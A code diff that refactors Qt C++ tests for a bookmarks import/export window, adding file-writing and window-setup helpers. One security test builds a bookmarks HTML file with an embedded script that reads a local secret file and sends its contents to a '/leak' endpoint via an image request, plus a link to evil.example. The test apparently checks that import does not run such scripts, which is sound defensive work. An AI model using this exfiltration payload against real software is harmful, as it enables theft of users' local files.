@@ -35,6 +35,18 @@ QString ExportedFile(const QString& folder) {
     return ExportFavorites(favorites, file) ? file : QString();
 }
 
+QString WriteFile(const QString& path, const QByteArray& bytes) {
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size() ? path : QString();
+}
+
+// The window, with the open dialog answering the file.
+TFormImportExportFav* WindowFor(TFavorites& favorites, QObject* notify, const QString& file) {
+    TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, notify);
+    window->SetOpenFileChooser([file](QWidget*) { return file; });
+    return window;
+}
+
 } // namespace
 
 class TestFormImportExportFav : public QObject {
@@ -71,11 +83,9 @@ private slots:
     void failedImportKeepsTheWindow() {
         TTestDb data;
         TFavorites favorites(data.Db());
-        const QString file = data.DirPath() + QStringLiteral("/empty.html");
-        QFile(file).open(QIODevice::WriteOnly);
+        const QString file = WriteFile(data.DirPath() + QStringLiteral("/empty.html"), {});
         TMessageSink mainWindow;
-        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, &mainWindow);
-        window->SetOpenFileChooser([file](QWidget*) { return file; });
+        TFormImportExportFav* window = WindowFor(favorites, &mainWindow, file);
         QSignalSpy finished(window, &TFormImportExportFav::importFinished);
         TModalAnswerer driver;
         window->ImportClick();
@@ -114,27 +124,20 @@ private slots:
         TFavorites favorites(data.Db());
         TTestServer server;
         QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
-        const QString secret = data.DirPath() + QStringLiteral("/secret.txt");
-        QFile secretFile(secret);
-        QVERIFY(secretFile.open(QIODevice::WriteOnly));
-        secretFile.write("the user's secret");
-        secretFile.close();
-        secretFile.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
+        const QString secret = WriteFile(data.DirPath() + QStringLiteral("/secret.txt"), "the user's secret");
+        QVERIFY(QFile::setPermissions(secret, QFile::ReadOwner | QFile::WriteOwner));
         const QString script =
             QStringLiteral(
                 "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
                 "new Image().src = '%2?' + encodeURIComponent(x.responseText);"
                 "document.write('<DT><A HREF=\"http://evil.example/\" FAV_POS=\"1\" >evil</A>');</script>")
                 .arg(QUrl::fromLocalFile(secret).toString(), server.Url("/leak"));
-        const QString file = data.DirPath() + QStringLiteral("/bookmarks.html");
-        QFile html(file);
-        QVERIFY(html.open(QIODevice::WriteOnly));
-        html.write("<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n"
-                   "<DT><A HREF=\"http://a/\" FAV_POS=\"1\" >A</A>\r\n" +
-                   script.toUtf8() + "<img src=\"" + server.Url("/img").toUtf8() + "\">\r\n</DL><p>\r\n");
-        html.close();
-        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, nullptr);
-        window->SetOpenFileChooser([file](QWidget*) { return file; });
+        const QString file = WriteFile(data.DirPath() + QStringLiteral("/bookmarks.html"),
+                                       "<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n"
+                                       "<DT><A HREF=\"http://a/\" FAV_POS=\"1\" >A</A>\r\n" +
+                                           script.toUtf8() + "<img src=\"" + server.Url("/img").toUtf8() +
+                                           "\">\r\n</DL><p>\r\n");
+        TFormImportExportFav* window = WindowFor(favorites, nullptr, file);
         QSignalSpy finished(window, &TFormImportExportFav::importFinished);
         TModalAnswerer driver;
         window->ImportClick();
@@ -157,12 +160,8 @@ private slots:
                 QStringLiteral("<DT><A HREF=\"http://s%1.example/新闻\" FAV_POS=\"%1\" >收藏 %1 😀</A>\r\n")
                     .arg(i));
         bytes += "</DL><p>\r\n";
-        const QString file = data.DirPath() + QStringLiteral("/large.html");
-        QFile html(file);
-        QVERIFY(html.open(QIODevice::WriteOnly) && html.write(bytes) == bytes.size());
-        html.close();
-        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, nullptr);
-        window->SetOpenFileChooser([file](QWidget*) { return file; });
+        TFormImportExportFav* window =
+            WindowFor(favorites, nullptr, WriteFile(data.DirPath() + QStringLiteral("/large.html"), bytes));
         QSignalSpy finished(window, &TFormImportExportFav::importFinished);
         TModalAnswerer driver;
         window->ImportClick();
